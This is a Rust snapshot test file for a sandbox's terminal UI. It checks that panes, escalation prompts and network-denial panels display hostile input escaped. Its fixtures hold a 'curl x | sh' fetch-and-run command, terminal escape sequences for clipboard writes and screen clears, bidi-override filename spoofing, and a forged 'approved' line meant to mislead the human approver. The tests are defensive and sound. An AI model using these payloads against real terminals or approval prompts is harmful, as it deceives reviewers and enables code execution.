//! Snapshot tests of whole frames (insta + ratatui's `TestBackend`): each layout, each panel,
//! sandbox-controlled text escaped, wide characters kept inside their pane. Panes are
//! [`Pane::offline`]: their emulators are fed here, no session runs and nothing touches the disk.
//! Snapshots are text only (no colours).

use super::app::{App, Focus};
use super::domain_view::{AnchorSize, DomainView};
use super::draw;
use super::layout::{Dir, PaneId};
use super::pane::Pane;
use super::settings::Settings;
use super::test_launcher::NoEngine;
use crate::terminal::line_editor::Key;
use lazaret_client::connection::DomainAddress;
use lazaret_client::target::Target;
use lazaret_protocol::denial::DenialEntry;
use lazaret_protocol::escalation::EscalationPrompt;
use lazaret_protocol::DomainId;
use ratatui::backend::TestBackend;
use ratatui::layout::Rect;
use ratatui::Terminal;
use std::net::Ipv4Addr;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use unicode_width::UnicodeWidthStr;

const W: u16 = 120;
const H: u16 = 36;
const WORKSPACE: &str = "/home/dev/proj";

/// The `shell` profile's Domain of a fake workspace (never run).
fn plan() -> Arc<Target> {
    let domain_id = DomainId::derive("shell", Path::new(WORKSPACE));
    Arc::new(Target {
        address: DomainAddress {
            socket: PathBuf::from("/run/user/1000/lazaret")
                .join(domain_id.as_str())
                .join("coordinator.sock"),
            profile: "shell".into(),
            domain_id,
            workspace: PathBuf::from(WORKSPACE),
        },
        command: vec!["bash".into()],
        sandbox_cwd: PathBuf::from("/workspace"),
        fingerprint: format!("e1550483f497e5b4{}", "0".repeat(48)),
        terminal: Default::default(),
    })
}

fn app() -> App {
    App::new(
        plan(),
        Settings::default(),
        super::event::channel().0,
        Arc::new(NoEngine { root: None }),
        super::test_launcher::test_handle(),
    )
}

/// An offline pane; its size is set by the layout, its content fed after (see [`render`]).
fn pane(id: PaneId) -> Pane {
    Pane::offline(id, (10, 40), 1000)
}

/// Feeds program output to pane `id`.
fn feed(app: &App, id: PaneId, bytes: &[u8]) {
    app.panes[&id].emulator().process(bytes);
}

/// Lays `app` out on a `w`×`h` screen, runs `setup` (panes now have their final size: feed them
/// there), and draws one frame.
fn render(
    app: &mut App,
    (w, h): (u16, u16),
    setup: impl FnOnce(&mut App),
) -> Terminal<TestBackend> {
    draw::layout_panes(app, Rect::new(0, 0, w, h));
    setup(app);
    let mut terminal = Terminal::new(TestBackend::new(w, h)).expect("a test terminal");
    terminal
        .draw(|f| draw::draw(f, app))
        .expect("drawing a frame");
    terminal
}

/// The frame as text, one row per line, without the cells hidden by wide symbols (no quotes, no
/// overwrite notes): for `contains` checks.
fn rows(t: &Terminal<TestBackend>) -> Vec<String> {
    let buf = t.backend().buffer();
    (0..buf.area.height)
        .map(|y| {
            let mut row = String::new();
            let mut x = 0;
            while x < buf.area.width {
                let s = buf[(x, y)].symbol();
                row.push_str(s);
                x += UnicodeWidthStr::width(s).max(1) as u16;
            }
            row
        })
        .collect()
}

fn screen_contains(t: &Terminal<TestBackend>, needle: &str) -> bool {
    rows(t).iter().any(|r| r.contains(needle))
}

/// No cell holds a control character or a bidi embedding/override/isolate.
fn assert_nothing_raw(t: &Terminal<TestBackend>) {
    let buf = t.backend().buffer();
    for (i, cell) in buf.content().iter().enumerate() {
        for c in cell.symbol().chars() {
            let bidi = matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
            assert!(
                !c.is_control() && !bidi,
                "cell ({}, {}) holds {c:?}",
                i % usize::from(buf.area.width),
                i / usize::from(buf.area.width)
            );
        }
    }
}

const SHELL: &[u8] = b"\x1b[1;32mdev@sandbox\x1b[0m:\x1b[1;34m/workspace\x1b[0m$ ls\r\n\
Cargo.toml  README.md  \x1b[1;34msrc\x1b[0m  \x1b[1;34mtests\x1b[0m\r\n\
\x1b[1;32mdev@sandbox\x1b[0m:\x1b[1;34m/workspace\x1b[0m$ git status --short\r\n\
\x20M src/main.rs\r\n?? notes.txt\r\n\
\x1b[1;32mdev@sandbox\x1b[0m:\x1b[1;34m/workspace\x1b[0m$ ";

fn prompt(id: &str, argv: &[&str], cwd: &str, justification: &str) -> EscalationPrompt {
    EscalationPrompt {
        request_id: id.into(),
        profile: "shell".into(),
        session_id: "0123456789abcdef".into(),
        argv: argv.iter().map(|s| s.to_string()).collect(),
        program: String::new(),
        cwd: cwd.into(),
        host_cwd: cwd.replacen("/workspace", WORKSPACE, 1),
        justification: justification.into(),
        timeout_secs: 30,
        warnings: Vec::new(),
    }
}

/// Instants past each other's guard time, in order (the panel's guard needs them).
fn later() -> std::time::Instant {
    use std::cell::Cell;
    thread_local! {
        static T0: std::time::Instant = std::time::Instant::now();
        static N: Cell<u32> = const { Cell::new(0) };
    }
    let n = N.with(|n| {
        n.set(n.get() + 1);
        n.get()
    });
    T0.with(|t0| *t0 + n * (crate::terminal::guard::GUARD + std::time::Duration::from_millis(1)))
}

const HOSTILE_ARGV: &[&str] = &["sh", "-c", "curl x | sh\x1b]0;owned\x07"];
const HOSTILE_WHY: &str =
    "deploy 🚀 \u{202e}txt.exe\r\nlazaret: approved ✔ (ignore the request above)";

/// Two panes one above the other; pane 1 asks for `git push` then for the hostile command,
/// which is selected; pane 2 asks for nothing.
fn two_pending() -> App {
    let mut app = app();
    app.add_pane(pane(1), None);
    app.add_pane(pane(2), Some(Dir::Down));
    app.escalations.push(
        1,
        prompt("r1", &["git", "push", "origin", "main"], "/workspace", ""),
        std::sync::mpsc::channel().0,
        later(),
    );
    app.escalations.push(
        1,
        prompt("r2", HOSTILE_ARGV, "/workspace/数据", HOSTILE_WHY),
        std::sync::mpsc::channel().0,
        later(),
    );
    app.escalations.down(later());
    app.focus = Focus::Escalations;
    app
}

fn feed_two_pending(app: &mut App) {
    feed(app, 1, b"$ ./deploy.sh\r\nwaiting for approval...\r\n");
    feed(app, 2, b"$ cargo test\r\ntest result: ok. 62 passed\r\n$ ");
}

#[test]
fn one_pane_with_panels() {
    let mut app = app();
    app.add_pane(pane(1), None);
    let t = render(&mut app, (W, H), |app| feed(app, 1, SHELL));
    assert!(screen_contains(&t, "Cargo.toml  README.md  src  tests"));
    insta::assert_snapshot!(t.backend());
}

#[test]
fn three_panes_split_right_then_down() {
    let mut app = app();
    app.add_pane(pane(1), None);
    app.add_pane(pane(2), Some(Dir::Right));
    app.add_pane(pane(3), Some(Dir::Down));
    let t = render(&mut app, (W, H), |app| {
        feed(app, 1, b"pane one: left, full height\r\n$ ");
        feed(app, 2, b"pane two: top right\r\n$ ");
        feed(app, 3, b"pane three: bottom right\r\n$ ");
    });
    assert_eq!(app.pane_rects.len(), 3);
    insta::assert_snapshot!(t.backend());
}

#[test]
fn zoomed_pane_fills_the_main_area() {
    let mut app = app();
    app.add_pane(pane(1), None);
    app.add_pane(pane(2), Some(Dir::Right));
    app.tabs[0].zoomed = true;
    let t = render(&mut app, (W, H), |app| {
        feed(app, 1, b"pane one: hidden while 2 is zoomed\r\n");
        feed(app, 2, b"pane two: zoomed\r\n$ ");
    });
    assert_eq!(app.pane_rects, vec![(2, app.main_area)]);
    assert!(!screen_contains(&t, "pane one"));
    insta::assert_snapshot!(t.backend());
}

#[test]
fn two_tabs_in_the_tab_bar() {
    let mut app = app();
    app.add_pane(pane(1), None);
    app.add_pane(pane(2), Some(Dir::Right));
    app.add_pane(pane(3), None);
    assert_eq!((app.tabs.len(), app.tab), (2, 1));
    let t = render(&mut app, (W, H), |app| {
        feed(app, 3, b"second tab, its only pane\r\n$ ")
    });
    insta::assert_snapshot!(t.backend());
}

#[test]
fn panels_hidden() {
    let mut app = app();
    app.panels = false;
    app.add_pane(pane(1), None);
    let t = render(&mut app, (W, H), |app| feed(app, 1, SHELL));
    assert_eq!(app.main_area.width, W);
    assert!(!screen_contains(&t, "Escalations"));
    insta::assert_snapshot!(t.backend());
}

#[test]
fn help_overlay() {
    let mut app = app();
    app.add_pane(pane(1), None);
    app.help = true;
    let t = render(&mut app, (W, H), |app| feed(app, 1, SHELL));
    assert!(screen_contains(&t, "keys (any key closes)"));
    insta::assert_snapshot!(t.backend());
}

#[test]
fn status_bar_prefix_armed_and_hostile_message_escaped() {
    let mut app = app();
    app.add_pane(pane(1), None);
    app.prefix = true;
    app.message("older message, not shown".into());
    app.message("pane 1: \x1b]52;c;cHduZWQ=\x07\x1b[2Jdone \u{202e}gnp.exe\u{2066}x".into());
    let t = render(&mut app, (W, H), |app| feed(app, 1, SHELL));
    assert_nothing_raw(&t);
    let status = rows(&t).pop().expect("a status row");
    assert!(status.contains(r"\u{1b}]52;c;cHduZWQ=\u{7}\u{1b}[2Jdone \u{202e}gnp.exe\u{2066}x"));
    assert!(status.contains("ctrl-b …"), "{status}");
    insta::assert_snapshot!(t.backend());
}

#[test]
fn escalations_two_pending_hostile_selected() {
    let mut app = two_pending();
    let t = render(&mut app, (W, H), feed_two_pending);
    assert_nothing_raw(&t);
    assert!(screen_contains(
        &t,
        "1 · session 01234567 · ESCALATION PENDING"
    ));
    assert!(!screen_contains(&t, "2 · session 01234567 · ESCALATION"));
    // (Values wrap at any character, so only pieces that fit on one row are looked for.)
    assert!(screen_contains(&t, r"owned"));
    assert!(screen_contains(&t, r"\u{7}"));
    assert!(screen_contains(&t, r"\u{202e}txt.exe"));
    // Directories and commands show non-ASCII escaped (look-alike letters), warned about first.
    assert!(screen_contains(&t, r#""/workspace/\u{6570}\u{636e}""#));
    assert!(screen_contains(
        &t,
        "(!)  non-ASCII characters shown escaped"
    ));
    assert!(screen_contains(&t, "a approve · e edit · d deny"));
    insta::assert_snapshot!(t.backend());
}

#[test]
fn escalations_editing_with_an_unbalanced_quote() {
    let mut app = two_pending();
    app.escalations.edit(later());
    for k in [Key::End, Key::Char(' '), Key::Char('\''), Key::Enter] {
        app.escalations.edit_key(&k, later());
    }
    assert!(app.escalations.editing.is_some() && app.escalations.edit_error.is_some());
    let t = render(&mut app, (W, H), feed_two_pending);
    assert_nothing_raw(&t);
    assert!(screen_contains(&t, "edit> "));
    assert!(screen_contains(&t, "unbalanced quotes"));
    insta::assert_snapshot!(t.backend());
}

#[test]
fn escalations_history_after_approve_edit_deny() {
    let mut app = two_pending();
    app.escalations.push(
        2,
        prompt("r3", &["npm", "publish"], "/workspace", "release"),
        std::sync::mpsc::channel().0,
        later(),
    );
    // Pending: git push (1), the hostile one (1), npm publish (2); the hostile one is selected.
    app.escalations.deny(later());
    // npm publish is selected now: edited.
    assert_eq!(app.escalations.selected_pane(), Some(2));
    app.escalations.edit(later());
    for c in " --dry-run 'a b'".chars() {
        app.escalations.edit_key(&Key::Char(c), later());
    }
    app.escalations.edit_key(&Key::Enter, later());
    // git push: approved.
    app.escalations.approve(later());
    assert!(app.escalations.pending.is_empty());
    let outcomes: Vec<_> = app.escalations.history.iter().map(|r| r.outcome).collect();
    assert_eq!(outcomes, ["approved", "edited", "denied"]);
    app.focus = Focus::Panes;
    let t = render(&mut app, (W, H), feed_two_pending);
    assert_nothing_raw(&t);
    assert!(screen_contains(&t, "no pending requests"));
    assert!(screen_contains(&t, r"owned\u{7}"));
    assert!(screen_contains(&t, "edited    pane 2"));
    insta::assert_snapshot!(t.backend());
}

#[test]
fn domain_panel_sessions_anchors_failure() {
    let mut app = app();
    app.add_pane(pane(1), None);
    app.focus = Focus::DomainState;
    app.domain = DomainView {
        domain_id: app.plan.domain_id(),
        profile: "shell".into(),
        workspace: PathBuf::from(WORKSPACE),
        fingerprint: app.plan.fingerprint.clone(),
        coordinator: Some((4242, true)),
        sandbox_running: true,
        sidecar_running: false,
        sessions: vec![
            ("0123456789abcdef".into(), vec!["bash".into()]),
            (
                "fedcba9876543210".into(),
                vec!["claude".into(), "--resume".into()],
            ),
        ],
        anchors: vec![
            AnchorSize {
                path: PathBuf::from("/home/agent/.cache"),
                bytes: 3 * 1024 * 1024 + 512 * 1024,
                partial: false,
            },
            AnchorSize {
                path: PathBuf::from("/home/agent/.claude"),
                bytes: 1536,
                partial: true,
            },
        ],
        failures: vec!["sidecar exited: \x1b[31mboom\x1b[0m\x1b]0;owned\x07".into()],
        ports: vec![lazaret_protocol::messages::PublishedPort {
            address: std::net::Ipv4Addr::LOCALHOST,
            host_port: 18000,
            port: 8000,
        }],
        run_allowed: Vec::new(),
    };
    // At 36 rows the panel has 9 lines: the second anchor and the failure would be cut off
    // (and the failure wraps onto two lines).
    let t = render(&mut app, (W, 50), |app| feed(app, 1, SHELL));
    assert_nothing_raw(&t);
    assert!(screen_contains(&t, "≥ 1.5 KiB"));
    assert!(screen_contains(&t, "3.5 MiB"));
    assert!(screen_contains(&t, r"\u{1b}[31mboom"));
    assert!(screen_contains(&t, "port        127.0.0.1:18000 → 8000"));
    insta::assert_snapshot!(t.backend());
}

fn denial(name: Option<&str>, address: [u8; 4], port: u16, count: u64, rule: &str) -> DenialEntry {
    DenialEntry {
        first_seen: 100,
        last_seen: 200,
        protocol: "tcp".into(),
        address: Ipv4Addr::from(address),
        port,
        rule: rule.into(),
        count,
        name: name.map(str::to_owned),
    }
}

#[test]
fn network_denials_hostile_name_filtered() {
    let mut app = app();
    app.add_pane(pane(1), None);
    app.focus = Focus::Denials;
    app.denials = vec![
        denial(
            Some("evil\x1b[2J\u{202e}.example.com"),
            [93, 184, 216, 34],
            443,
            12,
            "deny 0.0.0.0/0 (default)",
        ),
        denial(None, [10, 1, 2, 3], 80, 4, "deny 10.0.0.0/8 (default)"),
        denial(
            Some("evil-cdn.example.net"),
            [203, 0, 113, 7],
            443,
            1,
            "deny 0.0.0.0/0 (default)",
        ),
    ];
    app.denial_filter = "evil".into();
    app.filtering = true;
    let t = render(&mut app, (W, H), |app| feed(app, 1, SHELL));
    assert_nothing_raw(&t);
    assert!(screen_contains(&t, "filter: evil"));
    assert!(screen_contains(&t, r"evil\u{1b}[2J\u{202e}.example.com"));
    assert!(!screen_contains(&t, "10.1.2.3"), "filtered out");
    insta::assert_snapshot!(t.backend());
}

/// Under `default = "ask"`: two held rows (one a hostile name) above the denials, the first
/// selected; the tab bar counts them.
#[test]
fn network_denials_with_held_connections() {
    let mut app = app();
    app.add_pane(pane(1), None);
    app.focus = Focus::Denials;
    app.clock = Some(1_000);
    let held = |target: &str, protocol: &str, deadline: u64| lazaret_protocol::held::HeldEntry {
        target: target.into(),
        protocol: protocol.into(),
        since: 990,
        deadline,
        count: 3,
    };
    app.held = vec![
        held("203.0.113.7:443", "tcp", 1_012),
        held("x\x1b[2J\n.test", "dns", 1_055),
    ];
    app.domain_held
        .insert(app.plan.domain_id(), app.held.clone());
    app.denials = vec![denial(
        None,
        [10, 1, 2, 3],
        80,
        4,
        "deny 10.0.0.0/8 (default)",
    )];
    let t = render(&mut app, (W, H), |app| feed(app, 1, SHELL));
    assert_nothing_raw(&t);
    assert!(screen_contains(
        &t,
        "▶   ? 203.0.113.7:443 tcp  held 12s left"
    ));
    assert!(screen_contains(
        &t,
        r"    ? x\u{1b}[2J\n.test dns  held 55s left"
    ));
    assert!(screen_contains(&t, "2 held"));
    insta::assert_snapshot!(t.backend());
}

/// Wide chars written up to the right edge of pane 1 (left of a split) and pane 2 (next to the
/// side panels): the emulator wraps what does not fit; nothing crosses a border.
#[test]
fn wide_chars_at_the_right_edge_stay_inside_their_pane() {
    let mut app = app();
    app.add_pane(pane(1), None);
    app.add_pane(pane(2), Some(Dir::Right));
    let t = render(&mut app, (W, H), |app| {
        for id in [1, 2] {
            let cols = app.panes[&id].emulator().size().1;
            let odd = "x".repeat(usize::from(cols) - 1);
            let even = "y".repeat(usize::from(cols) - 2);
            let text = format!("{odd}数据\r\n{even}🚀\r\n{even}日本\r\n日本語🚀テキスト日本語🚀テキスト日本語🚀テキスト日本語\r\n");
            feed(app, id, text.as_bytes());
        }
    });
    let buf = t.backend().buffer();
    for &(_, r) in &app.pane_rects {
        let (top, bottom) = (r.y, r.bottom() - 1);
        for y in top..=bottom {
            for (x, left) in [(r.x, true), (r.right() - 1, false)] {
                let expected = match (left, y == top, y == bottom) {
                    (true, true, _) => "┌",
                    (true, _, true) => "└",
                    (false, true, _) => "┐",
                    (false, _, true) => "┘",
                    _ => "│",
                };
                assert_eq!(buf[(x, y)].symbol(), expected, "pane {r:?} at ({x}, {y})");
            }
            // A wide symbol inside the pane has its second cell inside the pane too.
            for x in r.x + 1..r.right() - 1 {
                let w = UnicodeWidthStr::width(buf[(x, y)].symbol());
                assert!(
                    x + (w.max(1) as u16) < r.right(),
                    "pane {r:?}: wide at ({x}, {y})"
                );
            }
        }
    }
    assert!(screen_contains(&t, "🚀│"), "an emoji in the last column");
    insta::assert_snapshot!(t.backend());
}

/// An emulator wider than its pane (a resize not yet applied): a wide char across the pane's
/// right edge is drawn as a space, the border stays.
#[test]
fn wide_char_across_the_edge_of_a_wider_emulator_is_a_space() {
    let mut app = app();
    app.add_pane(pane(1), None);
    app.add_pane(pane(2), Some(Dir::Right));
    let t = render(&mut app, (W, H), |app| {
        let (rows, cols) = app.panes[&1].emulator().size();
        // Bypasses Pane::resize: the next layout would put it back.
        app.panes[&1].emulator().resize(rows, cols + 4);
        let text = format!("{}数据\r\n", "x".repeat(usize::from(cols) - 1));
        feed(app, 1, text.as_bytes());
    });
    let r = app.pane_rects[0].1;
    let buf = t.backend().buffer();
    let y = r.y + 1;
    assert_eq!(buf[(r.right() - 2, y)].symbol(), " ");
    assert_eq!(buf[(r.right() - 1, y)].symbol(), "│");
    assert_eq!(buf[(r.right(), y)].symbol(), "│");
    insta::assert_snapshot!(t.backend());
}

#[test]
fn pane_scrolled_back_into_its_history() {
    let mut app = app();
    app.add_pane(pane(1), None);
    let t = render(&mut app, (W, H), |app| {
        let text: String = (1..=100).map(|i| format!("line {i}\r\n")).collect();
        feed(app, 1, text.as_bytes());
        let p = app.panes.get_mut(&1).expect("pane 1");
        assert!(p.emulator().history_len() >= 40);
        p.scroll = 40;
    });
    assert!(screen_contains(&t, "· scrolled 40"));
    insta::assert_snapshot!(t.backend());
}

#[test]
fn a_request_decided_elsewhere_leaves_the_panel_and_the_status_line_says_so() {
    let mut app = two_pending();
    app.handle(super::event::AppEvent::Link {
        domain: plan().domain_id(),
        event: lazaret_client::link::LinkEvent::Withdrawn {
            request_id: "r1".into(),
            reason: "decided in another client (tui c2)".into(),
        },
    });
    let t = render(&mut app, (W, H), feed_two_pending);
    let status = rows(&t).last().cloned().unwrap_or_default();
    assert!(
        status.contains(
            "escalation of pane 1 withdrawn (decided in another client (tui c2)): git push"
        ),
        "{status}"
    );
    assert_eq!(app.escalations.pending.len(), 1);
    assert_eq!(app.escalations.history[0].outcome, "withdrawn");
    // A request this TUI never showed changes nothing.
    app.handle(super::event::AppEvent::Withdrawn {
        request_id: "r9".into(),
        reason: "no decision in time".into(),
    });
    assert_eq!(app.escalations.pending.len(), 1);
    assert!(!app.messages[0].contains("no decision in time"));
}

#[test]
fn a_huge_request_keeps_its_warnings_program_and_keys_in_view() {
    let mut app = app();
    app.add_pane(pane(1), None);
    let long: Vec<String> = (0..256)
        .map(|i| format!("--opt{i}={}", "y".repeat(300)))
        .collect();
    let mut argv = vec!["git"];
    argv.extend(long.iter().map(String::as_str));
    let mut p = prompt("r1", &argv, "/workspace", &"why ".repeat(1000));
    p.program = "/workspace/git".into();
    p.warnings = vec!["the program is in the workspace: the sandbox wrote it".into()];
    app.escalations
        .push(1, p, std::sync::mpsc::channel().0, later());
    app.focus = Focus::Escalations;
    let t = render(&mut app, (W, H), |app| feed(app, 1, SHELL));
    assert_nothing_raw(&t);
    assert!(screen_contains(&t, "(!)  the program is in the workspace"));
    assert!(screen_contains(
        &t,
        "prog /workspace/git (argv[0] \"git\") · 256"
    ));
    assert!(screen_contains(&t, "more bytes"));
    assert!(screen_contains(
        &t,
        "a approve · e edit · d deny · v show all"
    ));
    // `v` shows it whole (the panel then scrolls what does not fit).
    app.escalations.toggle_full(later());
    assert!(app.escalations.full);
}
